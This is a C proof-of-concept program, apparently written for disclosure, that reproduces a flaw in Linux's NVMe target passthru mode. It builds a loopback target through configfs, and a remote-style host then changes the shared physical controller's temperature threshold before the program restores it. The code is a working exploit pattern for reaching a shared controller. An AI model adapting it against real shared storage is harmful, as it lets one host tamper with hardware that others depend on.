/* SPDX-License-Identifier: Apache-2.0 */
/*
 * K8: Linux's NVMe target in passthru mode judges a remote host's commands by opcode and lets Set
 * Features of most identifiers and every vendor opcode (C0h and up) through to the physical
 * controller that it shares with its own host and with others.
 * Affected: Linux with CONFIG_NVME_TARGET_PASSTHRU (seen on 6.12.95 and 7.3.4; Debian's 6.1 is
 * built without). By design of the target; told apart from its own answers by the changed feature.
 *
 *   k8-nvmet-passthru CONTROLLER [--keep]    /dev/nvme0, as root; modules nvmet and nvme-loop
 *                                            loaded, configfs on /sys/kernel/config
 *
 * A host on this machine connects to the target and changes the physical controller's temperature
 * threshold, which is put back. --keep leaves the target and the host's controller in place.
 * Exit status: 0 reproduced, 1 not on this kernel, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/nvme_ioctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define NVMET "/sys/kernel/config/nvmet/"
#define SUB   NVMET "subsystems/k8"
#define PORT  NVMET "ports/8"

/* Writes a text to a file; then reads its answer into ret (NULL: none). 0 or -1. */
static int put(const char *path, const char *text, char *ret, size_t size)
{
	int fd = open(path, (ret ? O_RDWR : O_WRONLY) | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (n > 0 && ret) {
		n = read(fd, ret, size - 1);
		ret[n > 0 ? n : 0] = '\0';
	}
	if (n < 0)
		perror(path);
	if (fd >= 0)
		close(fd);
	return n < 0 ? -1 : 0;
}

/* The temperature threshold (FID 04h); set: to `value`. -1 or what it is. */
static long threshold(int fd, int set, unsigned value)
{
	struct nvme_admin_cmd c = {.opcode = set ? 0x09 : 0x0a, .cdw10 = 0x04, .cdw11 = value};
	int r = ioctl(fd, NVME_IOCTL_ADMIN_CMD, &c);

	if (r != 0)
		(void)fprintf(stderr, "K8: feature 04h: %s, status %04x\n",
			      r < 0 ? strerror(errno) : "", r > 0 ? (unsigned)r : 0);
	return r != 0 ? -1 : (long)c.result;
}

int main(int argc, char **argv)
{
	char text[128], node[32], gone[80];
	long before, after, back;
	int phys, host, n;

	if (argc < 2 || (phys = open(argv[1], O_RDONLY | O_CLOEXEC)) < 0 ||
	    (mkdir(SUB, 0755) < 0 && errno != EEXIST)) {
		perror("k8-nvmet-passthru CONTROLLER, as root");
		return 2;
	}
	if (access(SUB "/passthru", F_OK) < 0) {
		(void)rmdir(SUB);
		(void)printf("K8 not on this kernel: its target has no passthru\n");
		return 1;
	}
	if (put(SUB "/attr_allow_any_host", "1", NULL, 0) < 0 ||
	    put(SUB "/passthru/device_path", argv[1], NULL, 0) < 0 ||
	    put(SUB "/passthru/enable", "1", NULL, 0) < 0 || mkdir(PORT, 0755) < 0 ||
	    put(PORT "/addr_trtype", "loop", NULL, 0) < 0 ||
	    symlink(SUB, PORT "/subsystems/k8") < 0 ||
	    put("/dev/nvme-fabrics", "transport=loop,nqn=k8", text, sizeof(text)) < 0 ||
	    sscanf(text, "instance=%d", &n) != 1)
		return 2;
	(void)snprintf(node, sizeof(node), "/dev/nvme%d", n);
	(void)snprintf(gone, sizeof(gone), "/sys/class/nvme/nvme%d/delete_controller", n);
	host = open(node, O_RDONLY | O_CLOEXEC);
	before = threshold(phys, 0, 0);
	if (host < 0 || before < 0 || threshold(host, 1, (unsigned)before - 1) < 0)
		return 2;
	after = threshold(phys, 0, 0);
	back = threshold(phys, 1, (unsigned)before);
	close(host);
	if (argc < 3 &&
	    (put(gone, "1", NULL, 0) < 0 || unlink(PORT "/subsystems/k8") < 0 || rmdir(PORT) < 0 ||
	     put(SUB "/passthru/enable", "0", NULL, 0) < 0 || rmdir(SUB) < 0))
		return 2;
	(void)printf("K8 %s: the threshold of %s was %ld, is %ld after a remote host's %s\n",
		     after == before - 1 && back >= 0 ? "reproduced" : "not on this kernel",
		     argv[1], before, after, node);
	return after == before - 1 ? 0 : 1;
}
